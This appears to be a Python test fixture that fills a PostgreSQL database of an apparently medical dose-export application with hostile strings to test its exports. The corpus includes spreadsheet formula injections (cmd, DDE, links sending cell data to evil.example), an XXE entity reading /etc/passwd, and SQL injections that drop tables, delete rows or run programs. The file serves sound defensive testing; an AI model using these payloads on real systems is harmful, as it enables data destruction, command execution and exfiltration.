"""Texts that attack spreadsheets, XML, SQL, logs or readers, and a database full of them."""

import psycopg
from local import sample
from psycopg import sql

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-1-1",
    "--1",
    "+44 20 7946 0000",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1-1",
    "\uff20A1",
    "{=SUM(1)}",
    '"=1+1"',
    "'=1+1",
    "=",
    "-",
    "@",
]
XML = [
    '</t></is></c><c r="A1"><f>1+1</f></c>',
    "<![CDATA[<f>1</f>]]>",
    "]]>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&lt;&amp;&#x3d;1+1",
    "_x003D_1+1",
    "_x000D_=1",
    "\x01\x0b\x1f\x7f\x85",
    "a\ufffe\uffffb",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u200b=1+1",
    "\U0001fac0" * 40,
    "x" * 300,
]
LINKS = [
    "http://evil.example",
    "mailto:a@evil.example",
    "ftp://evil.example",
    "internal:Summary!A1",
    "external:c:\\evil.xlsx",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
]
SQL = [
    "' OR '1'='1",
    "') OR ('1'='1",
    "'; DROP TABLE remapp_generalstudymoduleattr; --",
    "\\'; DELETE FROM remapp_patientmoduleattr; --",
    "1; SELECT pg_sleep(30)",
    "$$; DROP TABLE remapp_contextid; $$",
    "COPY (SELECT 1) TO PROGRAM 'id'",
    "current_setting('doseexport.value_0')",
    "U&'\\0027 OR 1=1'",
    "E'\\x27'",
    "/*", "--", "''", '"', "%", "_", "\\", "%%", "%s", "%(x)s", "{}", "{n}", "{0.__class__}", "$1", "?",
    "\\N", "\\.", "a,b", "a\nb", "a\r\nb", "a\tb", '"";""', "|", "ILIKE", "NULL",
]  # fmt: skip
ODD = [
    "NaN",
    "Infinity",
    "1e5",
    "0012",
    "TRUE",
    "#REF!",
    "2026-01-01",
    "12.50",
    " x ",
    "\u0130\u0131\u212a",
    "[]:*?/\\",
    "'",
    "''a''",
]
CORPUS = [*FORMULAS, *XML, *LINKS, *SQL, *ODD]

# What the choice of studies and of rows stands on; and hashes, which are compared, never shown.
UNCHANGED = {"modality_type", "code_value", "cid_table"}


def fill(url):
    """A small sample of every modality, standard names on, a text of the corpus in every text column."""
    sample.fill(url, 150)
    sample.enable_standard_names(url)
    with psycopg.connect(url) as connection:
        for number, (table, column, most) in enumerate(_list_columns(connection)):
            value = sql.SQL("(%(texts)s::text[])[1 + (id * 7 + {}) %% %(count)s]").format(number)
            if most is not None:
                value = sql.SQL("left({}, {})").format(value, most)
            statement = sql.SQL("UPDATE {} SET {} = {}").format(
                sql.Identifier(table), sql.Identifier(column), value
            )
            connection.execute(statement, {"texts": CORPUS, "count": len(CORPUS)})


def _list_columns(connection):
    rows = connection.execute(
        "SELECT c.table_name, c.column_name, c.character_maximum_length FROM information_schema.columns c"
        " JOIN information_schema.columns k ON k.table_name = c.table_name AND k.column_name = 'id'"
        " WHERE c.table_schema = 'public' AND c.table_name LIKE 'remapp\\_%'"
        " AND c.data_type IN ('text', 'character varying') ORDER BY 1, 2"
    ).fetchall()
    return [row for row in rows if row[1] not in UNCHANGED and not row[1].endswith("_hash")]
